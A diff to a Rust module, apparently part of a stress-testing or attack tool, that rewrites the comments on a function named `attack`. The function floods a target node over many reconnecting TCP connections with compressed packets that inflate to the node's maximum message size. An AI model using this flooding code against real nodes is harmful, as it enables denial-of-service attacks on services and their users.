@@ -1,4 +1,4 @@
-//! The strangers.
+//! The flooding clients.
 
 use std::net::SocketAddr;
 
@@ -9,18 +9,18 @@ use tokio::{
     net::TcpStream,
 };
 
-/// What a packet inflates to: the largest message that a node takes.
+/// Inflated size of a packet: the largest message that a node accepts.
 const BYTES: usize = 65_536;
-/// Packets in one write.
+/// Packets per write.
 const PACKETS: usize = 45;
 
-/// Sends packets over so many connections until the process is killed.
+/// Floods the node over `strangers` connections until the process is killed.
 pub(super) fn attack(address: SocketAddr, strangers: u32) -> Result<()> {
     let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
     let packets = frame(0x82, &deflate(&vec![b' '; BYTES])).repeat(PACKETS);
     let strangers = (0..strangers).map(|_| async {
         loop {
-            // The node ends the connection of one that does not identify; another one takes its place.
+            // The node disconnects clients that do not identify; each is replaced by a new one.
             let _ = flood(address, &packets).await;
             tokio::time::sleep(std::time::Duration::from_millis(100)).await;
         }
